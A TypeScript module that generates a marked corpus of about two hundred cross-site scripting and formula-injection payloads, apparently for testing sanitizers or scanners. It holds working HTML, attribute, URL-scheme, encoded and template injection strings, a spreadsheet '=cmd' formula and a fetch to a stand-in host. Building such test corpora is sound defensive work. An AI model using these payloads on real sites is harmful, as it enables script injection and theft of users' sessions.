/** What a payload carries, to be found by: an attribute, a name and a call that nothing of ours has. */
export const teken = 'zqx'

const daden = [
  `${teken}()`,
  `alert('${teken}')`,
  `console.log('${teken}')`,
  `top.${teken}=1`,
  `fetch('//${teken}.example')`,
]

/** Ways out of where a text can stand: between tags, in an attribute, in a script, a style, a comment, a title, a text area, a template. */
const vormen: readonly ((daad: string) => string)[] = [
  (d) => `<script ${teken}>${d}</script>`,
  (d) => `"><script ${teken}>${d}</script>`,
  (d) => `</script><script ${teken}>${d}</script>`,
  (d) => `</textarea><script ${teken}>${d}</script>`,
  (d) => `</title><script ${teken}>${d}</script>`,
  (d) => `--><script ${teken}>${d}</script>`,
  (d) => `]]><script ${teken}>${d}</script>`,
  (d) => `<img ${teken} src=x onerror=${d}>`,
  (d) => `'><img ${teken} src=x onerror=${d}>`,
  (d) => `<IMG ${teken} """><SCRIPT ${teken}>${d}</SCRIPT>">`,
  (d) => `<svg ${teken} onload=${d}>`,
  (d) => `<svg ${teken}><script>${d}</script></svg>`,
  (d) => `<math ${teken}><mtext><img src onerror=${d}>`,
  (d) => `<body ${teken} onload=${d}>`,
  (d) => `<details ${teken} open ontoggle=${d}>`,
  (d) => `<input ${teken} autofocus onfocus=${d}>`,
  (d) => `" ${teken} autofocus onfocus="${d}`,
  (d) => `' ${teken} onmouseover='${d}`,
  (d) => `\` ${teken} onclick=${d}`,
  (d) => `<a ${teken} href="javascript:${d}">x</a>`,
  (d) => `<a ${teken} href="java\tscript:${d}">x</a>`,
  (d) => `<a ${teken} href="data:text/html,<script>${d}</script>">x</a>`,
  (d) => `<iframe ${teken} srcdoc="<script>${d}</script>"></iframe>`,
  (d) => `<iframe ${teken} src="javascript:${d}"></iframe>`,
  (d) => `<object ${teken} data="javascript:${d}"></object>`,
  (d) => `<form ${teken} action="javascript:${d}"><button>x</button></form>`,
  (d) => `<base ${teken} href="//${teken}.example/"><script src=x></script>${d}`,
  (d) => `<meta ${teken} http-equiv=refresh content="0;url=javascript:${d}">`,
  (d) => `<style ${teken}>@import 'javascript:${d}';</style>`,
  (d) => `<link ${teken} rel=stylesheet href="javascript:${d}">`,
  (d) => `<template ${teken}><script>${d}</script></template>`,
  (d) => `<noscript><p ${teken} title="</noscript><img src=x onerror=${d}>">`,
  (d) => `&lt;img ${teken} src=x onerror=${d}&gt;`,
  (d) => `&#60;script ${teken}&#62;${d}&#60;/script&#62;`,
  (d) => `\\u003cscript ${teken}\\u003e${d}\\u003c/script\\u003e`,
  (d) => `\u2028</script><script ${teken}>${d}</script>\u2029`,
  (d) => `{{constructor.constructor("${d}")()}} ${teken}`,
  (d) => `\${${d}} ${teken}`,
  (d) => `%3Cscript ${teken}%3E${d}%3C/script%3E`,
  (d) => `=cmd|'/c ${d}'!A1 ${teken}`,
]

/** Two hundred payloads: each way out with each deed (quality S9). */
export const ladingen: readonly string[] = daden.flatMap((daad) => vormen.map((vorm) => vorm(daad)))
